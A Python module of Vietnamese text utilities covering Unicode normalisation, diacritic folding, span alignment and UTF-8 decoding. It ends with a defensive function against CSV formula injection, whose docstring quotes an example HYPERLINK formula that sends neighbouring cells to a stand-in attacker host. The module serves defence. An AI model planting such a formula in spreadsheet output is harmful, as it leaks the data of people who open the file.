"""Vietnamese text helpers shared by every stage.

Vietnamese text reaches us in NFC, NFD and mixed forms; comparing or hashing it without
normalising first silently splits one word into two. Folding (removing tone marks and
mapping đ→d) is how users type on phones without a Vietnamese keyboard, so search and
claim matching both need it, and the index stores a folded copy because the test node
has no ICU or asciifolding analyzer.
"""

from __future__ import annotations

import re
import unicodedata

_WS = re.compile(r"[ \t\u00a0\u200b\u2009\u202f]+")
_BLANK_LINES = re.compile(r"\n\s*\n+")


def nfc(text: str | None) -> str:
    """Return ``text`` in Unicode NFC ('' for None)."""
    if not text:
        return ""
    return unicodedata.normalize("NFC", text)


def clean_text(text: str | None) -> str:
    """NFC, collapse runs of spaces, keep paragraph breaks, strip the ends."""
    text = nfc(text).replace("\r\n", "\n").replace("\r", "\n")
    text = _WS.sub(" ", text)
    lines = [line.strip() for line in text.split("\n")]
    text = "\n".join(lines)
    return _BLANK_LINES.sub("\n\n", text).strip()


def _fold_char(ch: str) -> str:
    """The definition of folding, for one character: NFD, drop combining marks, đ→d.

    đ/Đ are letters of their own, not a base letter plus a combining mark, so NFD
    decomposition alone leaves them; they are mapped explicitly.
    """
    decomposed = unicodedata.normalize("NFD", ch)
    stripped = "".join(c for c in decomposed if unicodedata.category(c) != "Mn")
    return unicodedata.normalize("NFC", stripped.replace("đ", "d").replace("Đ", "D"))


class _FoldTable(dict[int, str]):
    """Code point → folded text, filled on first sight of each character.

    ``str.translate`` with this table folds a whole text in one C-level pass (several
    times faster than normalising the text), and each character is folded by
    ``_fold_char``, so the result is that of the definition for every character.
    """

    def __missing__(self, code: int) -> str:
        folded = self[code] = _fold_char(chr(code))
        return folded


class _AlignedFoldTable(dict[int, str]):
    """Like ``_FoldTable``, but every character folds to exactly one (a mark to a space)."""

    def __missing__(self, code: int) -> str:
        folded = self[code] = (_FOLD[code] or " ")[:1]
        return folded


_FOLD = _FoldTable()
_ALIGNED = _AlignedFoldTable()


def fold(text: str | None, *, lower: bool = True) -> str:
    """Remove Vietnamese diacritics: 'Tiêm vắc-xin Đà Nẵng' → 'tiem vac-xin da nang'.

    The one fold of every stage (crawler topic filter, NLP features, claim matching,
    the index's folded copies): NFC and NFD input fold alike.
    """
    folded = (text or "").translate(_FOLD)
    return folded.lower() if lower else folded


def fold_aligned(text: str) -> str:
    """``fold`` that keeps the string's length, so a span found in the folded text is the
    same span of the original (place names are found on folded text, shown as written).
    A combining mark becomes a space; in the rare case where lower-casing changes a
    length ('İ'), each character is lower-cased on its own."""
    folded = text.translate(_ALIGNED).lower()
    if len(folded) == len(text):
        return folded
    return "".join(c.translate(_ALIGNED).lower()[:1] or " " for c in text)


def has_vietnamese_diacritics(text: str) -> bool:
    """True when ``text`` carries at least one Vietnamese tone or vowel mark."""
    return fold(text, lower=False) != nfc(text)


def body_span(title: str, body: str, start: int, end: int, phrase: str) -> tuple[int, int] | None:
    """Where a span of ``full_text`` (title, blank line, body) lies in the body alone.

    Cues are located in the text the NLP stage read (``Document.full_text``); the desk and the
    report show the body. The offsets are checked against the phrase; if the body was stored
    trimmed differently, the phrase's first occurrence is used; ``None`` when it is absent
    from the body (a cue in the title)."""
    if not phrase:
        return None
    offset = len(f"{title}\n\n") if title else 0
    for shift in (offset, len(f"{title.strip()}\n\n") if title.strip() else 0):
        s, e = start - shift, end - shift
        if 0 <= s < e <= len(body) and body[s:e] == phrase:
            return s, e
    found = body.find(phrase)
    return (found, found + len(phrase)) if found >= 0 else None


def utf8_text(
    raw: bytes,
    path: object,
    *,
    hint: str = "lưu lại dạng UTF-8 / save it as UTF-8",
    error: type[ValueError] = ValueError,
) -> str:
    """``raw`` decoded as UTF-8 (a byte-order mark, as Notepad writes it, is dropped). A file a
    person saved in another encoding (Windows-1258, Latin-1) is an ``error`` naming ``path``,
    the byte and ``hint``, never the codec's own message that names no file."""
    try:
        return raw.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        n = exc.start + 1
        raise error(
            f"{path}: không phải UTF-8 (byte {n}) / not UTF-8 (byte {n}): 0x{raw[exc.start]:02x}; {hint}"
        ) from None


#: How a spreadsheet recognises a formula (OWASP "CSV injection"); a tab or CR before one counts too.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(cell: str) -> str:
    """A CSV/TSV cell that Excel or LibreOffice would run as a formula, made plain text with a leading ``'``.

    For every file we write for a person to open in a spreadsheet (``search --format csv``,
    the posts dumped for labelling): crawled titles, links and texts would otherwise turn
    ``=HYPERLINK("https://evil.example/?"&A2,…)`` into a live link that sends the
    neighbouring cells away when clicked. Not for files only our own code reads back (a
    training CSV): the ``'`` would become part of the text.
    """
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
